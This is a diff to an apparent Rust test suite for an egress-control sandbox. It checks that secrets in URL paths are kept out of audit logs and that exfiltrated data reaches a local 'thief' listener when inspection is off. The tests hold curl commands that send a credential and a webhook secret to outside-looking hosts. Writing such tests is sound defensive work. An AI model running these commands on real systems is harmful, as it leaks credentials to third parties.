@@ -2,6 +2,7 @@
 //! spelling, order or company of a request gets a laxer one than its rule's.
 
 use outgate_harness::audit::{of_kind, records, text};
+use outgate_harness::origin::Origin;
 use outgate_harness::{Identity, Lab, Sandbox, lab_tests};
 
 use crate::streams::{HANDSHAKE, frame};
@@ -67,6 +68,35 @@ lab_tests! {
         let outcome = ruled(lab, RULES)
             .option("--audit", &file.to_string_lossy())
             .run(&bash(&script));
+        assert_eq!(outcome.stdout, "arrived\n", "{outcome}");
+        assert_ne!(thief.take(), b"");
+        let all = std::fs::read_to_string(&file).expect("the record");
+        assert!(credential.pieces().all(|piece| !all.contains(piece)), "{all}");
+    }
+
+    fn a_path_that_is_a_secret_is_not_written_down_anywhere(lab) {
+        let secret = ["T02K4M8Q6S/B03L5N7P9R/", "x7Kq2Vb9Zt4Nw6Pc1Rf8Yd3J"].concat();
+        let pieces = [&secret[..10], &secret[11..21], &secret[22..34], &secret[34..]];
+        let origin = Origin::start(8098);
+        for mode in ["block", "warn", "off"] {
+            let file = lab.folder("records", Identity::Own).join(format!("hooks-{mode}.jsonl"));
+            let outcome = confined(lab, Identity::Own)
+                .allow("http://hooks.slack.com:8098")
+                .pin("hooks.slack.com:8098=127.0.0.1:8098")
+                .option("--inspect", mode)
+                .option("--audit", &file.to_string_lossy())
+                .run(&bash(&format!("curl -sS -d text=done http://hooks.slack.com:8098/services/{secret}")));
+            let all = std::fs::read_to_string(&file).expect("the record");
+            assert!(all.contains("hooks.slack.com"), "{all} {outcome}");
+            assert!(pieces.iter().all(|piece| !all.contains(piece)), "{mode}: {all}");
+        }
+        assert!(!origin.arrivals().is_empty(), "it may go there");
+        let (thief, credential) = (thief(), Credential::new());
+        let file = lab.folder("records", Identity::Own).join("off.jsonl");
+        let outcome = confined(lab, Identity::Own)
+            .option("--inspect", "off")
+            .option("--audit", &file.to_string_lossy())
+            .run(&bash(&format!("curl -sS $URL/{}", credential.text())));
         assert_eq!(outcome.stdout, "arrived\n", "{outcome}");
         assert_ne!(thief.take(), b"");
         let all = std::fs::read_to_string(&file).expect("the record");
